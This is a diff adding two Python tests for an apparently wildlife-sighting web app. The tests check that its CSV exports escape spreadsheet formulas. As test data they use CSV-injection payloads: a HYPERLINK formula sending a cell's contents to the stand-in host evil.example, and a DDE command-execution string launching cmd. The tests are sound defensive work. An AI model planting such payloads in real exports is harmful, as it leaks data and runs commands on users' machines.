@@ -369,3 +369,34 @@ def test_over_many_points_species_are_counted_per_point_on_request(
     assert {f["properties"]["count"] for f in data["features"]} == {2, 1}
     [one] = client.get("/map.geojson", {"location": ru_deployment.location_id}).json()["features"]
     assert one["properties"]["species_counts"] == f"{species('Sika deer').pk}:1"
+
+
+def test_csv_cells_never_run_as_formulas_in_a_spreadsheet(client, boris, cn_deployment, cn_team):
+    location = cn_deployment.location
+    location.name, location.longitude = "@SUM(A1:A9)", -12.5
+    location.save()
+    tiger = Individual.objects.create(
+        species=species("Wild boar"), code='=HYPERLINK("http://evil.example/?"&A1)', team=cn_team
+    )
+    sight(cn_deployment, dt.datetime(2009, 4, 21, 12, tzinfo=UTC), individual=tiger,
+          behaviour="+cmd|' /C calc'!A0")  # fmt: skip
+    client.force_login(boris)
+    text = b"".join(client.get("/sightings.csv").streaming_content).decode()
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["individual"] == "'" + tiger.code
+    assert row["location"] == "'@SUM(A1:A9)"
+    assert row["longitude"] == "-12.5"  # a number stays a number
+    assert row["latitude"] == "43.0853"
+
+
+def test_record_table_cells_never_run_as_formulas(client, alice, cn_deployment):
+    from .test_events import shoot
+
+    cn_deployment.location.name = "=1+1"
+    cn_deployment.location.save()
+    [image] = shoot(cn_deployment, alice, "2009:04:21 00:40:00")
+    Sighting.objects.filter(event=image.event_id).update(species=species("Wild boar"))
+    client.force_login(alice)
+    response = client.get("/record-table/", {"min_delta": 30, "compared_to": "last"})
+    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert (row["Station"], row["Species"]) == ("'=1+1", "Sus scrofa")
